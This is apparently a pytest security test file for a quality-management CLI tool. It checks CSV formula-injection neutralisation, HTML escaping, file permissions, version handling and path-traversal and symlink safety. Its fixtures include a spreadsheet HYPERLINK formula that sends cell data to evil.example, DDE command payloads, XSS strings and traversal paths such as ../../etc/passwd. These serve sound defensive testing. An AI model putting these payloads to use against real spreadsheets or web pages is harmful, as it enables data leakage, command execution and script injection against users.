"""Hostile input and private files: formula injection, escaping, paths, permissions, versions.

* Every CSV qmstrack writes (``list --csv``, the bundle's ``registers/*.csv``, an import's
  rejects file) neutralises cells that a spreadsheet would run as a formula.
* The database, its ``-wal``/``-shm``, the evidence store, backups, rejects files and zip
  bundles are readable by their owner only, whatever the umask.
* A database from a newer qmstrack is refused and left byte for byte as it was; an older
  one is backed up (old schema) and then migrated.
* What people typed is escaped in the audit report and the bundle index; exports never
  write outside their target, whatever the unit, title or evidence names say.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import sqlite3
import stat
from pathlib import Path

import pytest
from conftest import qmstrack_executable

from qmstrack.csvsafe import FORMULA_PREFIXES, spreadsheet_safe
from qmstrack.db import open_db
from qmstrack.migrations import MIGRATIONS, migration_set

HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+6281234567890",
    "minus": "-1+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SCRIPT = "<script>alert('pwned')</script>"
IMG = '"><img src=x onerror=alert(1)>'
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")
EVIL_NIP = "199203152015032001"


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def read_csv(path: Path) -> str:
    """A CSV file's text with its line breaks untouched (a CR inside a cell stays a CR)."""
    return path.read_bytes().decode("utf-8-sig")


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_spreadsheet_safe(text: str, where: str) -> int:
    """No cell would run as a formula; returns how many cells were neutralised."""
    neutralised = 0
    for cell in csv_cells(text):
        if cell.startswith(FORMULA_PREFIXES):
            assert NUMBER.match(cell), f"{where}: the cell {cell!r} would run as a formula"
        if cell.startswith("'") and cell[1:].startswith(FORMULA_PREFIXES):
            neutralised += 1
    return neutralised


def ok(result):
    assert result.exit_code == 0, (result.stdout, result.stderr)
    return result


# --- formula injection ------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_spreadsheet_safe_covers_every_formula_prefix(prefix):
    assert spreadsheet_safe(f"{prefix}1+1") == f"'{prefix}1+1"
    assert spreadsheet_safe(f"a{prefix}1") == f"a{prefix}1"
    assert spreadsheet_safe(-5) == -5


@pytest.fixture
def hostile_office(cli, office, tmp_path):
    """Every register holds text that a spreadsheet would run (entered on the CLI)."""
    h = HOSTILE
    ok(cli("unit", "add", "EVIL", f"--name={h['eq']}"))
    ok(cli("service", "add", "--code", "EVIL-SVC", f"--name={h['eq']}", "--unit", "EVIL",
           "--sla-days", "1", f"--requirements={h['minus']}"))
    ok(cli("staff", "add", "--nip", EVIL_NIP, f"--name={h['at']}", "--unit", "EVIL",
           f"--position={h['plus']}"))
    ok(cli("rule", "add", "--code", "SOP-EVIL", f"--title={h['dde']}", "--unit", "EVIL"))
    ok(cli("request", "add", "--service", "EVIL-SVC", f"--requester={h['eq']}",
           f"--contact={h['plus']}", f"--channel={h['at']}", f"--note={h['minus']}",
           "--received", "2026-03-02", "--staff", EVIL_NIP))
    ok(cli("adherence", "add", "--staff", EVIL_NIP, "--rule", "SOP-EVIL", "--result",
           "breach", "--on", "2026-03-03", f"--observer={h['at']}", f"--note={h['eq']}"))
    ok(cli("survey", "add", "--service", "EVIL-SVC", "--scores", "4,3,4,4,3,4,4,3,4",
           "--date", "2026-03-04", f"--note={h['dde']}"))
    ok(cli("complaint", "add", "--channel", "walk-in", f"--subject={h['eq']}",
           "--received", "2026-03-05", f"--complainant={h['at']}", f"--contact={h['plus']}",
           "--unit", "EVIL"))
    ok(cli("finding", "add", "--clause", "8.5.1", "--grade", "minor",
           f"--description={h['eq']}", "--unit", "EVIL", "--raised", "2026-03-06"))
    ok(cli("objective", "add", "--unit", "EVIL", f"--title={h['minus']}", "--target",
           ">= 0.9", "--manual", "--year", "2026"))
    ok(cli("document", "add", "--type", "sop", f"--title={h['eq']}", "--clause", "7.5",
           "--unit", "EVIL", "--issued", "2026-03-01"))
    return office


LISTS = [
    ["request", "list"], ["service", "list"], ["staff", "list"], ["rule", "list"],
    ["adherence", "list"], ["adherence", "stats", "--by", "staff"],
    ["adherence", "stats", "--by", "rule"], ["survey", "list"], ["complaint", "list"],
    ["finding", "list"], ["objective", "list"], ["document", "list"],
]


def test_every_list_csv_neutralises_formula_cells(cli, hostile_office):
    for args in LISTS:
        result = ok(cli(*args, "--csv", "--delimiter", ","))
        where = " ".join(args)
        neutralised = assert_spreadsheet_safe(result.stdout, where)
        if args[1] == "list":
            assert neutralised, f"{where} --csv shows none of the hostile values"
    requests = csv_cells(cli("request", "list", "--csv", "--delimiter", ",").stdout)
    assert "'" + HOSTILE["eq"] in requests
    # JSON keeps exactly what was typed: only spreadsheets need the apostrophe.
    rows = json.loads(cli("request", "list", "--json").stdout)
    assert [r["requester"] for r in rows] == [HOSTILE["eq"]]


def test_bundle_registers_neutralise_formula_cells(cli, hostile_office, tmp_path):
    out = tmp_path / "bundle"
    ok(cli("export", "--from", "2026-01-01", "--to", "2026-12-31", "--out", str(out)))
    total = 0
    registers = sorted((out / "data" / "registers").glob("*.csv"))
    assert len(registers) >= 15
    for path in registers:
        total += assert_spreadsheet_safe(read_csv(path), path.name)
    # units, services, staff, rules, requests, adherence, surveys, complaints, findings,
    # objectives, documents: each holds at least one.
    assert total >= 11
    requests = json.loads((out / "data" / "registers" / "requests.json").read_text("utf-8"))
    assert requests[0]["requester"] == HOSTILE["eq"]
    assert requests[0]["contact"] == HOSTILE["plus"]


def test_rejects_file_neutralises_formula_cells(cli, office, tmp_path):
    source = tmp_path / "permohonan.csv"
    rows = [["No. Registrasi", "Tgl Masuk", "Kode Layanan", "Nama Pemohon", "=Catatan()"]]
    rows.append(["R-OK", "2026-03-02", "SMA-LEG", "Ani", "baik"])
    for i, value in enumerate([*HOSTILE.values(), "\t=1+1", "\r=1+1", "\r\n@x"]):
        # Every hostile row is invalid (a date that does not exist), and the value sits
        # in the date, the name and an ignored column.
        rows.append([f"R-{i}", value, "SMA-LEG", value, value])
    with open(source, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    rejects = tmp_path / "ditolak.csv"
    result = ok(cli("request", "import", str(source), "--skip-invalid", "--rejects",
                    str(rejects)))
    assert "1 new" in result.stderr
    text = read_csv(rejects)
    neutralised = assert_spreadsheet_safe(text, "rejects file")
    assert neutralised >= 3 * len(HOSTILE)
    cells = csv_cells(text)
    assert "'=Catatan()" in cells
    assert "'\t=1+1" in cells and "'\r=1+1" in cells
    assert mode(rejects) == 0o600


# --- owner-only files -------------------------------------------------------------------


@pytest.fixture
def open_umask():
    """A careless environment: files would be world-readable by default."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def test_private_files_stay_private_whatever_the_umask(open_umask, run_installed, cli,
                                                       tmp_path):
    home = tmp_path / "office"
    db_path = home / "qms.db"

    def run(*args):
        return ok(cli(*args, db=db_path))

    # Created by the installed command, as a clerk would.
    created = run_installed("--db", str(db_path), "init", "--org", "Dinas Pendidikan")
    assert created.returncode == 0, created.stderr
    assert mode(db_path) == 0o600
    run("unit", "add", "SMA", "--name", "Bidang SMA")
    run("service", "add", "--code", "SMA-LEG", "--name", "Legalisir", "--unit", "SMA",
        "--sla-days", "3")
    scan = tmp_path / "sop-legalisir.pdf"
    scan.write_bytes(b"%PDF-1.4 signed SOP")
    run("document", "add", "--type", "sop", "--title", "SOP legalisir", "--clause", "8.5.1",
        "--file", str(scan), "--issued", "2026-03-01")
    digest = hashlib.sha256(scan.read_bytes()).hexdigest()

    # The evidence store: folders 0700, files 0400.
    store = home / "qms-evidence"
    stored = store / "sha256" / digest[:2] / digest
    assert stored.read_bytes() == scan.read_bytes()
    assert mode(stored) == 0o400
    for folder in (store, store / "sha256", stored.parent):
        assert mode(folder) == 0o700, folder
    for path in store.rglob("*"):
        assert mode(path) in (0o700, 0o400, 0o600), path

    # The write-ahead log and shared memory of a live connection: 0600 like the file.
    db = open_db(db_path)
    try:
        db.execute("BEGIN IMMEDIATE")
        db.execute("INSERT INTO settings (key, value) VALUES ('probe', '1')")
        db.execute("ROLLBACK")
        for suffix in ("-wal", "-shm"):
            side = db_path.with_name(db_path.name + suffix)
            assert side.exists() and mode(side) == 0o600, suffix
    finally:
        db.close()

    # Backups, with their evidence store.
    backup = tmp_path / "backup.db"
    run("db", "backup", str(backup))
    assert mode(backup) == 0o600
    copied = tmp_path / "backup-evidence" / "sha256" / digest[:2] / digest
    assert mode(copied) == 0o400 and mode(copied.parent) == 0o700

    # Rejected rows (personal data) of an import.
    sheet = tmp_path / "permohonan.csv"
    sheet.write_text("No. Registrasi,Tgl Masuk,Kode Layanan,Nama Pemohon\n"
                     "R-1,31/02/2026,SMA-LEG,Ani Lestari\n", encoding="utf-8")
    run("request", "import", str(sheet), "--skip-invalid")
    assert mode(tmp_path / "permohonan.csv.rejects.csv") == 0o600

    # Bundles are meant to be handed over, but a zip starts private (0600) and a bundle
    # folder is closed to others at its top (0700); see SECURITY.md.
    run("export", "--from", "2026-01-01", "--to", "2026-12-31", "--out",
        str(tmp_path / "bundle.zip"))
    assert mode(tmp_path / "bundle.zip") == 0o600
    run("export", "--from", "2026-01-01", "--to", "2026-12-31", "--out",
        str(tmp_path / "bundle"))
    assert mode(tmp_path / "bundle") == 0o700


# --- versions: newer refused untouched, older backed up and migrated ----------------------


def _stamp_newer(db_path: Path, journal: str) -> None:
    open_db(db_path, create=True).close()
    conn = sqlite3.connect(db_path)
    conn.execute("INSERT INTO _sqlite_migrations (migration_set, name, applied_at) "
                 "VALUES ('qmstrack', 'm999_written_by_qmstrack_2', '2031-01-01')")
    conn.commit()
    conn.execute(f"PRAGMA journal_mode = {journal}")
    conn.close()


@pytest.mark.parametrize("journal", ["wal", "delete"])
def test_newer_database_is_refused_byte_for_byte(run_installed, tmp_path, journal):
    db_path = tmp_path / "qms.db"
    _stamp_newer(db_path, journal)
    before = sha(db_path)
    for args in (["unit", "list"], ["init"], ["request", "add", "--service", "X",
                                               "--requester", "Ani"],
                 ["db", "backup", str(tmp_path / "copy.db")]):
        result = run_installed("--db", str(db_path), *args)
        assert result.returncode == 1, (args, result.stderr)
        lines = [line for line in result.stderr.splitlines() if line.strip()]
        assert len(lines) == 1 and "newer version of qmstrack" in lines[0], result.stderr
        assert "m999_written_by_qmstrack_2" in lines[0]
        assert sha(db_path) == before, f"{args} changed the newer database"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["qms.db"]


def test_older_database_is_backed_up_then_migrated(run_installed, tmp_path):
    import sqlite_utils

    names = list(MIGRATIONS)
    db_path = tmp_path / "qms.db"
    db = sqlite_utils.Database(sqlite3.connect(db_path))
    migration_set().apply(db, stop_before=names[1])
    from qmstrack.db import writing

    with writing(db, "test: an office of the first version"):
        db["units"].insert({"code": "SMA", "name": "Bidang SMA"})
    db.close()
    old_schema = sha(db_path)

    result = run_installed("--db", str(db_path), "unit", "list", "--json")
    assert result.returncode == 0, result.stderr
    assert [u["code"] for u in json.loads(result.stdout)] == ["SMA"]
    backups = sorted(tmp_path.glob("qms.db.before-upgrade-*"))
    assert len(backups) == 1 and mode(backups[0]) == 0o600
    assert sha(backups[0]) == old_schema or _migrations_of(backups[0]) == [names[0]]
    assert _migrations_of(backups[0]) == [names[0]]
    assert _migrations_of(db_path) == names
    check = run_installed("--db", str(db_path), "db", "check")
    assert check.returncode == 0, check.stderr
    # Nothing more to migrate: no second backup.
    assert run_installed("--db", str(db_path), "unit", "list").returncode == 0
    assert len(list(tmp_path.glob("qms.db.before-upgrade-*"))) == 1


def _migrations_of(path: Path) -> list[str]:
    conn = sqlite3.connect(path)
    try:
        return [r[0] for r in conn.execute(
            "SELECT name FROM _sqlite_migrations ORDER BY rowid")]
    finally:
        conn.close()


# --- escaping: the audit report and the bundle index -------------------------------------


def test_hostile_requester_and_note_are_escaped_in_report_and_bundle(cli, office, tmp_path):
    ok(cli("request", "add", "--service", "SMA-LEG", f"--requester={SCRIPT}",
           f"--contact={IMG}", "--ref", "R-LATE-1", "--received", "2026-10-01",
           f"--note={SCRIPT}"))
    ok(cli("request", "update", "R-LATE-1", "--status", "completed", "--on", "2026-10-20"))
    ok(cli("adherence", "add", "--staff", "198609262015051001", "--rule", "SOP-LEG",
           "--result", "breach", "--on", "2026-10-05", f"--note={SCRIPT}{IMG}"))
    reports = tmp_path / "reports"
    ok(cli("audit", "--period", "2026-10", "--no-input", "--lang", "en", "--out",
           str(reports)))
    html = next(reports.glob("*.html")).read_text("utf-8")
    markdown = next(reports.glob("*.md")).read_text("utf-8")
    assert "R-LATE-1" in html  # the late request is the evidence of the on-time item
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(" in html
    # Markdown shows user text escaped, or inside indented code blocks (never rendered).
    for line in markdown.splitlines():
        if not line.startswith("    "):
            assert "<script" not in line and "<img" not in line, line

    out = tmp_path / "bundle"
    ok(cli("export", "--from", "2026-10-01", "--to", "2026-10-31", "--out", str(out),
           "--lang", "en"))
    for page in [out / "data" / "index.html", *(out / "data" / "reports").glob("*.html")]:
        text = page.read_text("utf-8")
        assert "<script>alert" not in text and "<img src=x" not in text, page.name
    requests = json.loads((out / "data" / "registers" / "requests.json").read_text("utf-8"))
    assert requests[0]["requester"] == SCRIPT  # the record itself is kept as typed


# --- paths: exports, rejects, evidence names ------------------------------------------------


def tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


EVIL_NAMES = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/abs/path/x.pdf",
              "....//....//x", "..", ".", "-rf", ".bashrc", "a/../../b.pdf",
              "\u202egnp.exe", "CON", "x" * 400 + ".pdf", "foto bukti (1).jpg"]


def test_export_writes_only_inside_its_target(cli, office, db_path, tmp_path):
    from qmstrack.db import writing
    from qmstrack.evidence import store_file
    from qmstrack.registers.documents import add_document

    ok(cli("unit", "add", "A/../../ESC", "--name=../../../../tmp/evil"))
    for i, name in enumerate(EVIL_NAMES):
        source = tmp_path / "sources" / f"file-{i}"
        source.parent.mkdir(exist_ok=True)
        source.write_bytes(f"evidence {i}".encode())
        sha256 = store_file(office, db_path, source, original_name=name)
        add_document(office, type="record", title=f"../../{name[:100]}", clause="7.5",
                     issued="2026-01-10")
        with writing(office):
            office.execute("UPDATE documents SET file_sha256 = ? WHERE id = "
                           "(SELECT max(id) FROM documents)", [sha256])
    target_parent = tmp_path / "exports" / "deep"
    target_parent.mkdir(parents=True)
    before = tree(tmp_path)
    out = target_parent / "bundle"
    ok(cli("export", "--from", "2026-01-01", "--to", "2026-12-31", "--out",
           str(target_parent / ".." / "deep" / "bundle")))
    # Besides the bundle, only the compiled report templates (the index and the review
    # pack are rendered like every report) in qmstrack's owner-only user cache.
    cache = ("home", "home/.cache", "home/.cache/qmstrack", "home/.cache/qmstrack/templates")
    created = {p for p in tree(tmp_path) - before
               if p not in cache and not p.startswith("home/.cache/qmstrack/templates/"
                                                      "__jinja2_")}
    assert created and all(p.startswith("exports/deep/bundle") for p in created), (
        sorted(p for p in created if not p.startswith("exports/deep/bundle")))
    evidence = sorted((out / "data" / "evidence").iterdir())
    assert len(evidence) == len(EVIL_NAMES)
    for path in out.rglob("*"):
        assert not path.is_symlink()
        assert path.resolve().is_relative_to(out.resolve())
        assert re.fullmatch(r"[A-Za-z0-9._-]+", path.name), path.name
    assert ok(cli("verify", str(out)))


def test_export_refuses_links_and_the_database_as_target(cli, office, db_path, tmp_path):
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.docx").write_text("years of work")
    link = tmp_path / "bundle"
    link.symlink_to(precious, target_is_directory=True)
    period = ["--from", "2026-01-01", "--to", "2026-12-31"]
    for extra in ((), ("--force",)):
        result = cli("export", *period, "--out", str(link), *extra)
        assert result.exit_code == 1 and "Traceback" not in result.stderr
    zip_link = tmp_path / "bundle.zip"
    zip_link.symlink_to(precious / "thesis.docx")
    assert cli("export", *period, "--out", str(zip_link), "--force").exit_code == 1
    assert cli("export", *period, "--out", str(db_path), "--force").exit_code == 1
    assert sorted(p.name for p in precious.iterdir()) == ["thesis.docx"]
    assert (precious / "thesis.docx").read_text() == "years of work"
    assert sha(db_path) and open_db(db_path).execute("SELECT 1").fetchone()


def _bad_sheet(path: Path) -> Path:
    path.write_text("No. Registrasi,Tgl Masuk,Kode Layanan,Nama Pemohon\n"
                    "R-1,2026-03-02,SMA-LEG,Ani\nR-2,31/02/2026,SMA-LEG,Budi\n",
                    encoding="utf-8")
    return path


def test_rejects_target_that_is_a_link_is_replaced_not_followed(cli, office, tmp_path):
    precious = tmp_path / "precious.txt"
    precious.write_text("do not overwrite")
    rejects = tmp_path / "rejects.csv"
    rejects.symlink_to(precious)
    ok(cli("request", "import", str(_bad_sheet(tmp_path / "in.csv")), "--skip-invalid",
           "--rejects", str(rejects)))
    assert precious.read_text() == "do not overwrite"
    assert not rejects.is_symlink() and "31/02/2026" in rejects.read_text("utf-8-sig")
    assert mode(rejects) == 0o600


def test_rejects_temp_file_is_not_a_predictable_link_target(cli, office, tmp_path):
    """Someone who can write in the folder plants a link where the rejects file's
    temporary copy will be written; qmstrack must not write through it."""
    precious = tmp_path / "precious.txt"
    precious.write_text("do not overwrite")
    rejects = tmp_path / "rejects.csv"
    planted = tmp_path / f".rejects.csv.{os.getpid()}.partial"
    planted.symlink_to(precious)
    result = cli("request", "import", str(_bad_sheet(tmp_path / "in.csv")), "--skip-invalid",
                 "--rejects", str(rejects))
    assert "Traceback" not in result.stderr
    assert precious.read_text() == "do not overwrite"
    if result.exit_code == 0:
        assert not rejects.is_symlink() and mode(rejects) == 0o600


def test_backup_is_not_misled_by_planted_temp_files_or_links(cli, office, tmp_path):
    """The copy is written under a new, unpredictable name (``mkstemp``, O_EXCL): files
    and links planted under the names a backup might use are neither followed nor
    removed, and a link planted as the backup itself is replaced, not written through."""
    out = tmp_path / "backup.db"
    precious = tmp_path / "precious.txt"
    precious.write_text("do not overwrite")
    planted = {
        out.with_name(out.name + ".partial"): "link",
        out.with_name(f".{out.name}.partial"): "link",
        out.with_name(f".{out.name}.x.partial"): "file",
        out.with_name(out.name + ".partial-journal"): "dangling",
    }
    for path, kind in planted.items():
        if kind == "link":
            path.symlink_to(precious)
        elif kind == "dangling":
            path.symlink_to(tmp_path / "nowhere" / "x")
        else:
            path.write_text("left by someone else")
    for _ in range(2):
        result = cli("db", "backup", str(out), "--force")
        assert result.exit_code == 0, result.stderr
        assert mode(out) == 0o600 and not out.is_symlink()
        assert ok(cli("db", "check", db=out))
    assert precious.read_text() == "do not overwrite"
    for path, kind in planted.items():
        assert path.is_symlink() if kind != "file" else path.read_text() == (
            "left by someone else"), path
    # The backup's own name planted as a link: the link is replaced by the copy.
    out.unlink()
    out.symlink_to(precious)
    assert cli("db", "backup", str(out), "--force").exit_code == 0
    assert not out.is_symlink() and precious.read_text() == "do not overwrite"
    assert ok(cli("db", "check", db=out))
    hidden = [p.name for p in tmp_path.iterdir() if p.name.startswith(f".{out.name}.")
              and p not in planted]
    assert hidden == [], hidden


def test_installed_executable_is_the_one_under_test():
    assert Path(qmstrack_executable()).name == "qmstrack"
